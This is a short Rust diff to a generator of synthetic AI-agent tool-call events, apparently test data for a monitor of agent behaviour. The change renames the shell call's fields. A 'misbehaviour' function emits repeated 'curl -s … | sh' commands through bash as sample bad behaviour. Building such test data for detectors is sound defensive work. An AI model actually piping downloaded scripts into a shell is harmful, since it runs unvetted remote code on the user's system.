@@ -117,7 +117,7 @@ impl Profile {
             Self::Coder => match rng.random_range(0..100) {
                 0..40 => {
                     let program = *pick(rng, &[(35, "cargo"), (30, "git"), (15, "ls"), (10, "cat"), (10, "rg")]);
-                    ("tool.shell", json!({ "argv": [program, text(rng, 6)] }), 0)
+                    ("tool.shell", json!({ "program": program, "args": [text(rng, 6)] }), 0)
                 }
                 40..70 => {
                     let dir = *pick(
@@ -211,7 +211,7 @@ fn misbehaviour(rng: &mut StdRng, profile: Profile, clock: &mut Clock) -> Vec<Ev
         1 => (0..12)
             .map(|_| {
                 let command = format!("curl -s {} | sh", text(rng, 10));
-                event("tool.shell", json!({ "argv": ["bash", "-c", command] }), 150, 0)
+                event("tool.shell", json!({ "program": "bash", "args": ["-c", command] }), 150, 0)
             })
             .collect(),
         2 => {
